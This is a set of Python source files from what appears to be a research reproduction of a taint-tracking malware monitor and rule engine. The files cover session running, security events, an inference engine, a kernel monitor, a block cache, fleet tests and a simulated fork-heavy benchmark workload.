            fault_injector=fault_injector,
            options=options,
            engine=self.engine,
            analyzer=analyzer,
        )
        if setup is not None:
            setup(hth)
        return hth

    # -- running -----------------------------------------------------------
    def run(
        self,
        program: Union[str, Image],
        argv: Optional[Sequence[str]] = None,
        env: Optional[Dict[str, str]] = None,
        stdin: Optional[Union[str, bytes]] = None,
        setup: Optional[SetupFn] = None,
        options: Optional[RunOptions] = None,
        telemetry: Optional[Telemetry] = None,
        path: Optional[str] = None,
        analyzer=None,
    ) -> RunReport:
        """Run one guest program and report.

        ``program`` is an assembled :class:`Image` or assembly source
        text (assembled through the warm memo as ``path``, default
        ``/bin/guest``).  ``setup(hth)`` runs before the guest — seed
        files, register peers, provide input.
        """
        if isinstance(program, str):
            program = self.engine.image(path or "/bin/guest", program)
        hth = self.machine(
            options=options, telemetry=telemetry, setup=setup,
            analyzer=analyzer,
        )
        self.runs += 1
        return hth.run(program, argv=argv, env=env, stdin=stdin)

    def run_workload(
        self,
        workload: Workload,
        options: Optional[RunOptions] = None,
        telemetry: Optional[Telemetry] = None,
        fault_injector=None,
        wall_timeout: Optional[float] = None,
        analyzer=None,
    ) -> RunReport:
        """Run one registry :class:`Workload` (its setup/argv/stdin/budgets
        included) on this session's warm engine."""
        options = options if options is not None else self.options
        self.runs += 1
        return workload.run(
            telemetry=telemetry if telemetry is not None else self.telemetry,
            fault_injector=fault_injector,
            wall_timeout=wall_timeout,
            options=options,
            engine=self.engine,
            analyzer=analyzer,
        )


def run(
    program: Union[str, Image],
    options: Optional[RunOptions] = None,
    **kwargs,
) -> RunReport:
    """One-shot :meth:`Session.run` on a throwaway session."""
    return Session(options).run(program, **kwargs)


def run_workload(
    workload: Workload,
    options: Optional[RunOptions] = None,
    **kwargs,
) -> RunReport:
    """One-shot :meth:`Session.run_workload` on a throwaway session."""
    return Session(options).run_workload(workload, **kwargs)


__all__ = [
    "Session",
    "RunOptions",
    "RunReport",
    "run",
    "run_workload",
]
