"""Events Harrier sends to the analysis side (paper section 6.1).

Two shapes, exactly as the paper describes:

* :class:`ResourceAccessEvent` — a resource is being accessed (execve,
  open, connect, bind, clone...).  Carries the call name, the resource
  name and type, the *origin* of the resource identifier (the tag set of
  the name string — this is how "hardcoded" is detected), plus time,
  code frequency, and code address.
* :class:`DataTransferEvent` — data is crossing a resource boundary
  (read/write/send/recv).  Carries the source/target resources, the tag
  set of the data itself, and the origin of the target's identifier.

Tag sets rather than single origins: the paper's events use multifield
CLIPS slots for origin name/type because a value can derive from several
sources at once.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.kernel.process import ResourceKind
from repro.taint.tags import TagSet


@dataclass(frozen=True)
class ResourceId:
    """A named resource of a given kind (file path, socket address...)."""

    kind: ResourceKind
    name: str

    def __str__(self) -> str:
        return f"{self.kind.value}:{self.name}"


@dataclass(frozen=True)
class SecurityEvent:
    """Common fields attached to every event (paper section 6.1.2)."""

    pid: int
    #: Virtual time of the event.
    time: int
    #: Execution count of the application basic block that (transitively)
    #: triggered the call — the "last app BB" scheme of section 7.4.
    frequency: int
    #: Address (hex string) of that application basic block.
    address: str
    #: e.g. "SYS_execve", "SYS_write", "socketcall:connect".
    call_name: str


@dataclass(frozen=True)
class ResourceAccessEvent(SecurityEvent):
    resource: ResourceId
    #: Tag set of the resource *identifier* (the name string's provenance).
    origin: TagSet = field(default_factory=TagSet.empty)

    def __str__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"[{self.time}] pid{self.pid} {self.call_name} {self.resource} "
            f"origin={self.origin} freq={self.frequency} @{self.address}"
        )


@dataclass(frozen=True)
class DataTransferEvent(SecurityEvent):
    #: 'read' (resource -> memory) or 'write' (memory -> resource).
    direction: str = "write"
    resource: ResourceId = None  # type: ignore[assignment]
    #: Provenance of the transferred bytes.
    data_tags: TagSet = field(default_factory=TagSet.empty)
    #: Provenance of the resource identifier (file name / socket address).
    resource_origin: TagSet = field(default_factory=TagSet.empty)
    #: Bytes moved.
    length: int = 0
    #: When the resource is a connection accepted by a listening socket,
    #: the server socket's own address ("this program has opened a socket
    #: for remote connections", as the pma warnings put it) and the origin
    #: of that server address.
    server_socket: Optional[str] = None
    server_socket_origin: TagSet = field(default_factory=TagSet.empty)
    #: For each FILE/SOCKET tag in ``data_tags``, the origin of that
    #: *source resource's name* (paper 6.1.2: "the source resource ID data
    #: source") as (tag, origin-tagset) pairs.
    source_origins: tuple = ()
    #: When the *data* came in over a connection accepted by this
    #: program's listening socket: that server socket's address + origin.
    source_server_socket: Optional[str] = None
    source_server_origin: TagSet = field(default_factory=TagSet.empty)
    #: Content classification of the transferred bytes (section 10 item 5;
    #: see :mod:`repro.harrier.content`).
    content_type: str = "empty"

    def __str__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"[{self.time}] pid{self.pid} {self.call_name} {self.direction} "
            f"{self.resource} data={self.data_tags} "
            f"origin={self.resource_origin}"
        )


@dataclass(frozen=True)
class ProcessEvent(SecurityEvent):
    """Process-lifecycle observation (clone/fork) for resource-abuse rules."""

    #: Total processes this monitored program has created so far.
    total_created: int = 0
    #: Creations within the trailing rate window.
    recent_created: int = 0
    window: int = 0

    def __str__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"[{self.time}] pid{self.pid} {self.call_name} "
            f"total={self.total_created} recent={self.recent_created}"
        )


@dataclass(frozen=True)
class MemoryEvent(SecurityEvent):
    """Heap-growth observation (brk) for memory-abuse rules.

    Paper section 10 (future work item 4) asks for "new rules to support
    different types of resource abuse such as memory"; Trojan.Vundo's
    signature behaviour is draining virtual memory (section 2.1).
    """

    #: Total heap cells allocated since program start.
    total_allocated: int = 0
    #: Growth in this brk call.
    delta: int = 0

    def __str__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"[{self.time}] pid{self.pid} {self.call_name} "
            f"total={self.total_allocated} delta={self.delta}"
        )
