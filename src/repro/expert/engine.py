"""Forward-chaining inference engine (the CLIPS core, paper section 6.2.1).

Data-driven execution: rules whose LHS is satisfied by the working memory
are *activated*; the agenda orders activations by salience (then recency)
and fires the top one; firing may assert/retract facts, which recomputes
activations.  Refraction guarantees an activation fires at most once for a
given combination of facts, so rules do not loop on stable memory.

Matching is incremental by default: assert/retract feed deltas through a
Rete network (:mod:`repro.expert.rete`) that maintains the agenda, so
match cost scales with working-memory *changes* rather than its size —
the property the paper gets for free from CLIPS.  ``rete=False`` keeps
the original naive matcher (full ``match_lhs`` re-join per firing) as a
differential oracle; both produce bit-identical agendas and fire traces.

The engine also records a fire trace — CLIPS's headline advantage over
black-box classifiers is that "an expert system can give the user all of
the information that was used to reach its conclusion" (section 6.2.1),
and :class:`FiredRule` is exactly that record.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from time import perf_counter
from typing import Any, Callable, Dict, List, Optional, Sequence, Set, Tuple

from repro.expert.conditions import ConditionalElement, match_lhs
from repro.expert.template import Fact, Template


class EngineError(Exception):
    pass


@dataclass
class Rule:
    """A production: LHS conditional elements plus an RHS action."""

    name: str
    lhs: List[ConditionalElement]
    action: Callable[["RuleContext"], None]
    salience: int = 0
    doc: str = ""


@dataclass(frozen=True)
class Activation:
    rule: Rule
    facts: Tuple[Fact, ...]
    bindings: Dict[str, Any] = field(compare=False, hash=False)

    def key(self) -> Tuple[str, Tuple[int, ...]]:
        return (self.rule.name, tuple(f.fact_id for f in self.facts))

    def recency(self) -> int:
        return max((f.recency for f in self.facts), default=0)


@dataclass(frozen=True)
class FiredRule:
    """Trace record: which rule fired on which facts with which bindings."""

    rule_name: str
    fact_ids: Tuple[int, ...]
    bindings: Dict[str, Any]

    def __str__(self) -> str:
        ids = ",".join(f"f-{i}" for i in self.fact_ids)
        return f"FIRE {self.rule_name}: {ids}"


class RuleContext:
    """What an action sees: the engine, its bindings, the matched facts."""

    def __init__(
        self,
        engine: "InferenceEngine",
        bindings: Dict[str, Any],
        facts: Sequence[Fact],
    ) -> None:
        self.engine = engine
        self.bindings = bindings
        self.facts = list(facts)

    def __getitem__(self, var: str) -> Any:
        return self.bindings[var]

    def get(self, var: str, default: Any = None) -> Any:
        return self.bindings.get(var, default)

    def assert_fact(self, fact: Fact) -> Fact:
        return self.engine.assert_fact(fact)

    def retract(self, fact: Fact) -> None:
        self.engine.retract(fact)

    @property
    def context(self) -> Dict[str, Any]:
        return self.engine.context


class _Instruments:
    """Stable registry handles for the match-cost metric families."""

    __slots__ = ("match_seconds", "alpha_activations", "beta_tokens_live",
                 "agenda_size")

    def __init__(self, registry: Any) -> None:
        self.match_seconds = registry.histogram("secpert_match_seconds")
        self.alpha_activations = registry.counter(
            "secpert_alpha_activations_total"
        )
        self.beta_tokens_live = registry.gauge("secpert_beta_tokens_live")
        self.agenda_size = registry.gauge("secpert_agenda_size")


class InferenceEngine:
    def __init__(self, rete: bool = True) -> None:
        self.templates: Dict[str, Template] = {}
        self.rules: List[Rule] = []
        self._facts: Dict[int, Fact] = {}
        self._next_fact_id = 1
        self._recency = 0
        self._fired: Set[Tuple[str, Tuple[int, ...]]] = set()
        #: Reverse index for refraction pruning: fact id -> fired keys
        #: that reference it.  Fact ids are monotonic and never reused,
        #: so a key naming a retracted id can never re-activate and is
        #: safe to drop — without this, daemon-lifetime engines leak one
        #: ``_fired`` entry per fired activation forever.
        self._fired_by_fact: Dict[int, Set[Tuple[str, Tuple[int, ...]]]] = {}
        self.fire_trace: List[FiredRule] = []
        #: Free-form context shared with rule actions (Secpert stores the
        #: warning sink and policy config here).
        self.context: Dict[str, Any] = {}
        #: Rules whose action raised: name -> "ErrorType: message".  A
        #: quarantined rule stops matching (its agenda entries are
        #: skipped) so one bad production cannot crash every subsequent
        #: event; the quarantine survives reset() because the defect is
        #: in the rule, not the working memory.
        self.quarantined: Dict[str, str] = {}
        self._metrics: Any = None
        self._instruments: Optional[_Instruments] = None
        from repro.expert.rete import MatchStats, ReteNetwork

        #: Always-on match instrumentation, cheap enough to keep without
        #: a registry (see :class:`repro.expert.rete.MatchStats`).
        self.stats = MatchStats(engine="rete" if rete else "naive")
        self._rete = ReteNetwork(self) if rete else None

    @property
    def rete_enabled(self) -> bool:
        return self._rete is not None

    #: Optional telemetry registry (repro.telemetry.MetricsRegistry).
    #: When set, the engine records facts asserted, per-rule firing
    #: counts, per-rule action latency, and match-cost families
    #: (secpert_match_seconds, secpert_alpha_activations_total,
    #: secpert_beta_tokens_live, secpert_agenda_size).
    @property
    def metrics(self) -> Any:
        return self._metrics

    @metrics.setter
    def metrics(self, registry: Any) -> None:
        self._metrics = registry
        self._instruments = None if registry is None else _Instruments(registry)

    # -- definitions ---------------------------------------------------------
    def define_template(self, template: Template) -> Template:
        if template.name in self.templates:
            raise EngineError(f"duplicate template {template.name!r}")
        self.templates[template.name] = template
        return template

    def add_rule(self, rule: Rule) -> Rule:
        if any(r.name == rule.name for r in self.rules):
            raise EngineError(f"duplicate rule {rule.name!r}")
        self.rules.append(rule)
        if self._rete is not None:
            self._rete.add_production(rule, len(self.rules) - 1)
        return rule

    # -- working memory ----------------------------------------------------------
    def assert_fact(self, fact: Fact) -> Fact:
        if fact.name not in self.templates:
            raise EngineError(f"assert of unknown template {fact.name!r}")
        if fact.fact_id is not None:
            raise EngineError(f"fact already asserted: {fact!r}")
        fact.fact_id = self._next_fact_id
        self._next_fact_id += 1
        self._recency += 1
        fact.recency = self._recency
        self._facts[fact.fact_id] = fact
        self.stats.facts_asserted += 1
        if self._rete is not None:
            self._propagate(self._rete.assert_fact, fact)
        if self._metrics is not None:
            self._metrics.counter("secpert_facts_asserted_total").inc()
        return fact

    def retract(self, fact: Fact) -> None:
        if fact.fact_id is None or fact.fact_id not in self._facts:
            raise EngineError(f"retract of non-asserted fact {fact!r}")
        del self._facts[fact.fact_id]
        for key in self._fired_by_fact.pop(fact.fact_id, ()):
            self._fired.discard(key)
        if self._rete is not None:
            self._propagate(self._rete.retract_fact, fact)

    def facts(self, template: Optional[str] = None) -> List[Fact]:
        out = list(self._facts.values())
        if template is not None:
            out = [f for f in out if f.name == template]
        return out

    def clear_facts(self) -> None:
        self._facts.clear()
        self._fired.clear()
        self._fired_by_fact.clear()
        if self._rete is not None:
            self._rebuild_network()

    def reset(self) -> None:
        """CLIPS (reset): wipe facts, refraction memory, and trace."""
        self.clear_facts()
        self.fire_trace.clear()

    def _rebuild_network(self) -> None:
        from repro.expert.rete import ReteNetwork

        self.stats.beta_tokens_live = 0
        self.stats.agenda_size = 0
        network = ReteNetwork(self)
        self._rete = network
        for index, rule in enumerate(self.rules):
            network.add_production(rule, index)

    def _propagate(self, step: Callable[[Fact], None], fact: Fact) -> None:
        stats = self.stats
        alpha_before = stats.alpha_activations
        start = perf_counter()
        step(fact)
        elapsed = perf_counter() - start
        stats.match_calls += 1
        stats.match_seconds += elapsed
        stats.agenda_size = self._rete.agenda_size()
        if stats.agenda_size > stats.agenda_peak:
            stats.agenda_peak = stats.agenda_size
        instruments = self._instruments
        if instruments is not None:
            instruments.match_seconds.observe(elapsed)
            delta = stats.alpha_activations - alpha_before
            if delta:
                instruments.alpha_activations.inc(delta)
            instruments.beta_tokens_live.set(stats.beta_tokens_live)
            instruments.agenda_size.set(stats.agenda_size)

    # -- agenda -----------------------------------------------------------------
    def agenda(self) -> List[Activation]:
        if self._rete is not None:
            return self._rete.agenda()
        stats = self.stats
        start = perf_counter()
        facts = list(self._facts.values())
        activations: List[Activation] = []
        for rule in self.rules:
            if rule.name in self.quarantined:
                continue
            for match in match_lhs(rule.lhs, facts):
                activation = Activation(
                    rule=rule,
                    facts=tuple(match["facts"]),
                    bindings=match["bindings"],
                )
                if activation.key() not in self._fired:
                    activations.append(activation)
        activations.sort(
            key=lambda a: (a.rule.salience, a.recency()), reverse=True
        )
        elapsed = perf_counter() - start
        stats.match_calls += 1
        stats.match_seconds += elapsed
        stats.agenda_size = len(activations)
        if stats.agenda_size > stats.agenda_peak:
            stats.agenda_peak = stats.agenda_size
        instruments = self._instruments
        if instruments is not None:
            instruments.match_seconds.observe(elapsed)
            instruments.agenda_size.set(stats.agenda_size)
        return activations

    def match_stats(self) -> Dict[str, Any]:
        """Wire-friendly snapshot of the always-on match instrumentation."""
        return self.stats.to_dict()

    def run(self, limit: int = 10_000) -> int:
        """Fire until quiescent; returns the number of rules fired."""
        fired = 0
        while fired < limit:
            if self._rete is not None:
                activation = self._rete.pop_best()
                if activation is None:
                    break
            else:
                agenda = self.agenda()
                if not agenda:
                    break
                activation = agenda[0]
            key = activation.key()
            self._fired.add(key)
            for fact_id in key[1]:
                self._fired_by_fact.setdefault(fact_id, set()).add(key)
            self.fire_trace.append(
                FiredRule(
                    rule_name=activation.rule.name,
                    fact_ids=tuple(f.fact_id for f in activation.facts),
                    bindings=dict(activation.bindings),
                )
            )
            context = RuleContext(self, activation.bindings, activation.facts)
            action_start = perf_counter() if self.metrics is not None else 0.0
            try:
                activation.rule.action(context)
            except Exception as exc:  # noqa: BLE001 - rule containment
                self.quarantined[activation.rule.name] = (
                    f"{type(exc).__name__}: {exc}"
                )
            finally:
                if self.metrics is not None:
                    name = activation.rule.name
                    self.metrics.counter(
                        "secpert_rule_firings_total", rule=name
                    ).inc()
                    self.metrics.histogram(
                        "secpert_rule_latency_seconds", rule=name
                    ).observe(perf_counter() - action_start)
            fired += 1
        else:
            raise EngineError(f"run() exceeded fire limit ({limit})")
        return fired
