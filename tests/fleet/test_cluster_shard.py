"""Cluster sharding: triage-simhash ordering feeding contiguous chunks.

The ``cluster`` strategy orders tasks so near-duplicate workloads land
on the same worker (shared warm block cache and verdict-cache locality),
while keeping the fleet invariants: every task assigned exactly once,
deterministic assignment, and merged reports bit-identical to any other
strategy.
"""

import json

from repro.core.options import RunOptions
from repro.fleet import (
    FleetTask,
    make_tasks,
    run_fleet,
    shard,
    workload_refs,
)
from repro.fleet.engine import SHARD_STRATEGIES, cluster_tasks
from repro.fleet.refs import WorkloadRef


def _tasks(table="4"):
    return make_tasks(workload_refs([table]))


class TestClusterStrategy:
    def test_registered(self):
        assert "cluster" in SHARD_STRATEGIES

    def test_every_task_assigned_exactly_once(self):
        tasks = _tasks("8")
        shards = shard(tasks, 3, "cluster")
        flat = sorted(t.index for s in shards for t in s)
        assert flat == [t.index for t in tasks]

    def test_deterministic_order(self):
        tasks = _tasks("4")
        assert [t.ref.name for t in cluster_tasks(tasks)] == \
            [t.ref.name for t in cluster_tasks(tasks)]
        a = shard(tasks, 2, "cluster")
        b = shard(tasks, 2, "cluster")
        assert [[t.index for t in s] for s in a] == \
            [[t.index for t in s] for s in b]

    def test_unresolvable_ref_clusters_at_zero_not_crash(self):
        broken = FleetTask(
            index=0,
            ref=WorkloadRef(module="repro.no_such_module",
                            factory="nope", name="ghost"),
            options=RunOptions(),
        )
        ordered = cluster_tasks([broken] + _tasks("4"))
        assert len(ordered) == 1 + len(_tasks("4"))

    def test_cluster_fleet_report_matches_interleave(self):
        refs = workload_refs(["4"])
        clustered = run_fleet(refs, workers=2, shard_by="cluster")
        interleaved = run_fleet(refs, workers=2, shard_by="interleave")

        def reports(fleet):
            return {
                r.name: json.dumps(r.report, sort_keys=True, default=str)
                for r in fleet.runs
            }

        assert reports(clustered) == reports(interleaved)
        assert not clustered.failures
