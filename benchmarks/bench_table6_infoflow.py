"""Table 6 — information-flow micro-benchmarks.

Regenerates the full source/target/origin matrix (including the paper's
client+server socket variants) and checks every row classifies as the
paper reports.
"""

from benchmarks.harness import (
    assert_all_match,
    emit_classification_table,
    once,
    run_workloads,
)
from repro.programs.micro.infoflow import table6_workloads


def bench_table6_information_flow(benchmark):
    results = once(benchmark, lambda: run_workloads(table6_workloads()))
    emit_classification_table(
        "Table 6: HTH Micro benchmarks - Information Flow",
        "table6_infoflow.txt",
        results,
    )
    assert_all_match(results)
