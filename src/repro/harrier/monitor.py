"""Harrier: the run-time monitor (paper section 7).

Harrier virtualizes the application (Figure 4): it receives every
architectural, OS, and library-level event from the simulated kernel
through the :class:`KernelHooks` interface and

* propagates multi-source taint per instruction (``InstructionDataFlow``),
* counts application basic-block executions (``CodeExecutionPatterns``),
* short-circuits name-translating library routines (``RoutineShortCircuit``),
* tags loaded binaries BINARY and the initial stack USER INPUT,
* generates semantic events at syscalls (``SyscallEventGenerator``) and
  forwards them to the analyzer (Secpert), pausing the process until the
  analysis — and, on a warning, the user's continue/kill decision — is in.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.harrier.analyzer import (
    DecisionPolicy,
    EventAnalyzer,
    always_continue,
)
from repro.harrier.bbfreq import CodeExecutionPatterns
from repro.harrier.config import HarrierConfig
from repro.harrier.dataflow import InstructionDataFlow
from repro.harrier.events import SecurityEvent
from repro.harrier.routines import RoutineShortCircuit
from repro.harrier.state import ProcessShadow
from repro.harrier.syscall_events import SyscallEventGenerator
from repro.isa.cpu import StepResult
from repro.kernel.hooks import KernelHooks
from repro.kernel.kernel import Kernel
from repro.kernel.loader import LoadedImage
from repro.kernel.process import Process
from repro.taint.tags import DataSource, TagSet

_SHADOW_KEY = "harrier.shadow"


class Harrier(KernelHooks):
    def __init__(
        self,
        analyzer: Optional[EventAnalyzer] = None,
        config: Optional[HarrierConfig] = None,
        decision: DecisionPolicy = always_continue,
    ) -> None:
        self.analyzer = analyzer or EventAnalyzer()
        self.config = config or HarrierConfig()
        self.decision = decision
        self.dataflow = InstructionDataFlow()
        self.bbfreq = CodeExecutionPatterns()
        self.routines = RoutineShortCircuit(self.dataflow)
        self.event_gen = SyscallEventGenerator(
            self.config, self.dataflow, self.bbfreq
        )
        self.kernel: Optional[Kernel] = None
        #: Every event emitted, in order (when keep_event_log is set).
        self.events: List[SecurityEvent] = []
        #: (event, warning) pairs where the decision policy said "kill".
        self.kills: List[Tuple[SecurityEvent, object]] = []

    # -- wiring -------------------------------------------------------------
    def bind(self, kernel: Kernel) -> "Harrier":
        """Associate with the kernel whose hooks we implement."""
        self.kernel = kernel
        return self

    def shadow(self, proc: Process) -> ProcessShadow:
        shadow = proc.meta.get(_SHADOW_KEY)
        if shadow is None:
            shadow = ProcessShadow()
            proc.meta[_SHADOW_KEY] = shadow
        return shadow

    @property
    def _now(self) -> int:
        return self.kernel.now if self.kernel is not None else 0

    # -- loader events (sections 7.3.2 / 7.3.3) ------------------------------
    def on_image_load(self, proc: Process, loaded: LoadedImage) -> None:
        shadow = self.shadow(proc)
        image_name = loaded.name
        is_app = loaded.is_app and image_name not in self.config.trusted_images
        leaders = shadow.app_leaders if is_app else shadow.lib_leaders
        for addr in loaded.abs_bb_leaders():
            leaders[addr] = True
        for addr in range(loaded.text_start, loaded.text_end):
            shadow.code_image[addr] = loaded
        for symbol in self.config.short_circuit_symbols:
            addr = loaded.symbol_addr(symbol)
            if addr is not None:
                shadow.routine_addrs[addr] = symbol
        if self.config.track_dataflow:
            binary_tags = self.dataflow.binary_tag(image_name)
            shadow.memory.set_range(
                loaded.data_start,
                loaded.end - loaded.data_start,
                binary_tags,
            )

    def on_initial_stack(self, proc: Process, start: int, end: int) -> None:
        if not self.config.track_dataflow:
            return
        if self.config.complete_dataflow:
            tags = TagSet.of(DataSource.USER_INPUT)
        else:
            tags = self.dataflow.binary_tag(proc.command)
        self.shadow(proc).memory.set_range(start, end - start, tags)

    # -- per-instruction events (section 7.3.1 / 7.4 / 7.2) --------------------
    def on_instruction(self, proc: Process, step: StepResult) -> None:
        shadow = proc.meta.get(_SHADOW_KEY)
        if shadow is None:
            shadow = self.shadow(proc)
        if self.config.track_dataflow:
            self.dataflow.apply(shadow, step)
            if self.config.short_circuit_routines:
                self.routines.on_step(proc, shadow, step)
        if self.config.track_bb_frequency:
            self.bbfreq.observe(shadow, step.pc)

    # -- syscall events (section 7.1) -----------------------------------------
    def on_syscall_pre(
        self,
        proc: Process,
        sysno: int,
        args: Tuple[int, int, int, int, int],
        info: Dict[str, object],
    ) -> bool:
        shadow = self.shadow(proc)
        events = self.event_gen.pre_events(
            proc, shadow, self._now, sysno, args, info
        )
        return self._dispatch(events)

    def on_syscall_post(
        self,
        proc: Process,
        sysno: int,
        args: Tuple[int, int, int, int, int],
        result: int,
        info: Dict[str, object],
    ) -> None:
        shadow = self.shadow(proc)
        events = self.event_gen.post_effects(
            proc, shadow, self._now, sysno, args, result, info
        )
        # Post events cannot veto (the call already happened) but still
        # feed the analysis and may warn.
        self._dispatch(events)

    def _dispatch(self, events: List[SecurityEvent]) -> bool:
        proceed = True
        for event in events:
            if self.config.keep_event_log:
                self.events.append(event)
            for warning in self.analyzer.analyze(event):
                if not self.decision(warning):
                    self.kills.append((event, warning))
                    proceed = False
        return proceed

    # -- process lifecycle -------------------------------------------------------
    def on_fork(self, parent: Process, child: Process) -> None:
        parent_shadow = self.shadow(parent)
        child.meta[_SHADOW_KEY] = parent_shadow.copy_for_fork()

    def on_exec(self, proc: Process, path: str) -> None:
        self.shadow(proc).reset_for_exec()

    # -- inspection ---------------------------------------------------------------
    def events_named(self, call_name: str) -> List[SecurityEvent]:
        return [e for e in self.events if e.call_name == call_name]
