"""The block translation cache (PIN's code cache, reproduced).

One :class:`BlockCache` holds every :class:`BlockPlan` translated for one
*image layout* — the kernel keys caches per main-executable image, shares
them across fork (instructions are immutable, and the loader's placement
is deterministic per image), and swaps them out on execve (counted as a
flush).  Lookups are one dict probe on the hot path; misses pay the
translation cost exactly once per block leader.

Hit/miss/translation counts are kept as plain ints (always, they feed
the benchmark JSON) and mirrored into ``repro.telemetry`` counters when a
metrics registry is attached:

* ``blockcache_hits_total`` / ``blockcache_misses_total``
* ``blockcache_translated_instructions_total``
* ``blockcache_flushes_total`` (incremented by the kernel on execve)
"""

from __future__ import annotations

from typing import Dict, FrozenSet, Optional

from repro.isa.memory import FlatMemory
from repro.isa.translate import BlockPlan, translate_block


class BlockCache:
    """Entry-pc -> translated block, for one image layout."""

    __slots__ = (
        "leaders",
        "plans",
        "hits",
        "misses",
        "flushes",
        "translated_instructions",
        "max_blocks",
        "_c_hits",
        "_c_misses",
        "_c_translated",
    )

    def __init__(
        self,
        leaders: FrozenSet[int] = frozenset(),
        metrics=None,
        max_blocks: int = 65536,
    ) -> None:
        #: Every image's absolute BB-leader set; blocks are cut so they
        #: never run past one, making each leader a stable cache key.
        self.leaders = leaders
        self.plans: Dict[int, BlockPlan] = {}
        self.hits = 0
        self.misses = 0
        self.flushes = 0
        self.translated_instructions = 0
        #: Defensive bound; a full cache is flushed wholesale, like PIN's
        #: code cache under pressure.
        self.max_blocks = max_blocks
        self.bind_metrics(metrics)

    def bind_metrics(self, metrics) -> None:
        """(Re)wire the telemetry mirrors to ``metrics``.

        Warm caches outlive single runs (see :class:`BlockCacheStore`),
        so each run re-binds the counter handles to its own registry —
        or to ``None``, which keeps the hot path at two attribute loads.
        """
        if metrics is not None:
            self._c_hits = metrics.counter("blockcache_hits_total")
            self._c_misses = metrics.counter("blockcache_misses_total")
            self._c_translated = metrics.counter(
                "blockcache_translated_instructions_total"
            )
        else:
            self._c_hits = None
            self._c_misses = None
            self._c_translated = None

    def lookup(self, memory: FlatMemory, pc: int) -> BlockPlan:
        """The cached plan entered at ``pc``, translating on first miss.

        Raises :class:`repro.isa.memory.MemoryFault` when ``pc`` is
        unmapped (same message the interpreter's fetch would produce).
        """
        plan = self.plans.get(pc)
        if plan is not None:
            self.hits += 1
            if self._c_hits is not None:
                self._c_hits.inc()
            return plan
        plan = translate_block(memory, pc, self.leaders)
        self.misses += 1
        if self._c_misses is not None:
            self._c_misses.inc()
        if len(self.plans) >= self.max_blocks:
            self.flush()
        self.plans[pc] = plan
        self.translated_instructions += plan.length
        if self._c_translated is not None:
            self._c_translated.inc(plan.length)
        return plan

    def flush(self) -> None:
        """Drop every translated block (refilled lazily on next lookup)."""
        self.plans.clear()
        self.flushes += 1

    def hit_rate(self) -> Optional[float]:
        total = self.hits + self.misses
        if total == 0:
            return None
        return self.hits / total

    def stats(self) -> Dict[str, object]:
        # How much of the resident cache the dataflow fast path can
        # collapse: no-op blocks (no taint outputs at all) and
        # zero-taint-safe blocks (skippable outright when the shadow
        # state is clean — no immediate/hardware sources).
        plans = self.plans.values()
        return {
            "blocks": len(self.plans),
            "hits": self.hits,
            "misses": self.misses,
            "flushes": self.flushes,
            "translated_instructions": self.translated_instructions,
            "hit_rate": self.hit_rate(),
            "taint_noop_blocks": sum(
                1 for p in plans if p.taint_summary.is_noop
            ),
            "zero_taint_safe_blocks": sum(
                1 for p in plans if p.taint_summary.zero_taint_safe
            ),
        }

    def __len__(self) -> int:
        return len(self.plans)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"BlockCache(<{len(self.plans)} blocks, "
            f"{self.hits} hits / {self.misses} misses>)"
        )


class BlockCacheStore:
    """Cross-run warm store: code-layout key -> :class:`BlockCache`.

    A translated plan is valid for exactly one code layout — the same
    instructions relocated to the same addresses.  The kernel's layout
    key captures that: the main image's name and the identity of its
    (immutable, shared) text tuple, plus ``(name, base, text identity)``
    of every loaded image.  Two runs produce equal keys only when the
    loader placed identical code identically, which is precisely when
    reusing the cache is sound.

    Keys embed ``id()`` values, so the store *pins* the keyed images:
    a strong reference per entry guarantees no id is ever recycled
    while the store lives.  Stores are single-process state (each fleet
    worker owns its own); they are never shared across processes.
    """

    __slots__ = ("_entries",)

    def __init__(self) -> None:
        self._entries: Dict[tuple, tuple] = {}

    def get(self, key: tuple) -> Optional["BlockCache"]:
        entry = self._entries.get(key)
        return entry[0] if entry is not None else None

    def put(self, key: tuple, cache: "BlockCache", pins: tuple = ()) -> None:
        self._entries[key] = (cache, pins)

    def stats(self) -> Dict[str, object]:
        """Aggregate counters across every stored cache."""
        totals = {
            "caches": len(self._entries),
            "blocks": 0,
            "hits": 0,
            "misses": 0,
            "translated_instructions": 0,
        }
        for cache, _pins in self._entries.values():
            totals["blocks"] += len(cache)
            totals["hits"] += cache.hits
            totals["misses"] += cache.misses
            totals["translated_instructions"] += (
                cache.translated_instructions
            )
        return totals

    def __len__(self) -> int:
        return len(self._entries)
