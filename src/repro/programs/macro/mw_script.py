"""mw2.2.1 macro benchmark (paper section 8.4.2).

The paper monitors ``/usr/bin/perl`` running the mw2.2.1 dictionary
script — with *dataflow tracking turned off* ("turning off data flow
enabled Harrier to run much faster and eliminated false positives
associated with executing perl instead of the script").  The clean
script draws no warnings; a modified script that forks more than 20
children trips the resource-abuse rules even though HTH observes only
the interpreter.

Our ``perl`` analogue is a tiny interpreter for one-letter opcodes read
from the script file: ``F`` forks a child (which idles and exits), ``P``
prints a dot.  The workloads run it under ``track_dataflow=False``,
matching the paper's setup.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.hth import HTH

from typing import List

from repro.core.report import Verdict
from repro.harrier.config import HarrierConfig
from repro.programs.base import Workload

CLEAN_SCRIPT = "/home/user/mw2.2.1"
FORKING_SCRIPT = "/home/user/mw2.2.1-mod"

PERL_SOURCE = r"""
; perl: interpret the script named by argv[1], one opcode per cell
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, script
    mov edx, 192
    call read
    mov ebx, esi
    call close
    mov esi, script
interp:
    load eax, [esi]
    cmp eax, 0
    jz done
    cmp eax, 'F'
    jz op_fork
    cmp eax, 'P'
    jz op_print
next:
    add esi, 1
    jmp interp
op_fork:
    call fork
    cmp eax, 0
    jnz next
    mov ebx, 20000          ; child: idle, then exit
    call sleep
    mov ebx, 0
    call exit
op_print:
    mov ebx, dot
    call print
    jmp next
done:
    mov eax, 0
    ret
.data
dot:    .asciz "."
script: .space 192
"""

#: Dataflow off, exactly as the paper ran this experiment.
